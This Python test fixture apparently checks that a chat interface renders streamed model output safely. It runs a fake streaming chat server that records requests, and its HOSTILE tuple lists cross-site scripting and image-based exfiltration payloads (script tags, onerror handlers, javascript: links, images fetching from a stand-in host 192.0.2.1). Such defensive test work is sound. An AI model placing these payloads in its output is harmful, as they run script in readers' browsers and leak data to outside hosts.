"""A served model that says what it was told to, and tells who has asked it."""

from __future__ import annotations

import json
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

HOSTILE = (
    "<script>document.title='owned'</script> <img src=x onerror=\"document.title='owned'\"> ![i](http://192.0.2.1/leak.png?q=1) ",
    "<iframe src='javascript:parent.document.title=`owned`'></iframe><form action='http://192.0.2.1'><button>ok</button></form> ",
    "[a](javascript:document.title='owned') [b](data:text/html,<script>1</script>) <svg onload=document.title='owned'> ",
    '![r][x] <a href="javascript:document.title=1">c</a> $$\\href{javascript:document.title=1}{d}$$ ',
    "\\(\\includegraphics{http://192.0.2.1/y}\\) ",
    "<style>@import 'http://192.0.2.1/z.css'</style> ```html\n<img src=http://192.0.2.1/code.png>\n``` ",
    "\\`<img src=http://192.0.2.1/no_code.png>`\n\nthe end of it\n\n[x]: http://192.0.2.1/w",
)
"""What a model might write to do something in a reader's browser."""


@contextmanager
def speaker(*pieces: str) -> Iterator[tuple[str, list[str]]]:
    """Its address, and the paths that were asked for; every chat is answered with the pieces."""
    heard: list[str] = []

    class Answers(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            heard.append(self.path)
            self.send_error(404)

        def do_POST(self) -> None:
            heard.append(self.path)
            self.rfile.read(int(self.headers["content-length"]))
            self.send_response(200)
            self.send_header("content-type", "text/event-stream")
            self.end_headers()
            for place, text in enumerate(pieces):
                reason = "stop" if place == len(pieces) - 1 else None
                choice = {"index": 0, "delta": {"content": text}, "finish_reason": reason}
                chunk = {"id": "1", "object": "chat.completion.chunk", "created": 0, "model": "m", "choices": [choice]}
                self.wfile.write(f"data: {json.dumps(chunk)}\n\n".encode())
            self.wfile.write(b"data: [DONE]\n\n")

        def log_message(self, *_: object) -> None: ...

    server = ThreadingHTTPServer(("127.0.0.1", 0), Answers)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}", heard
    finally:
        server.shutdown()
        server.server_close()
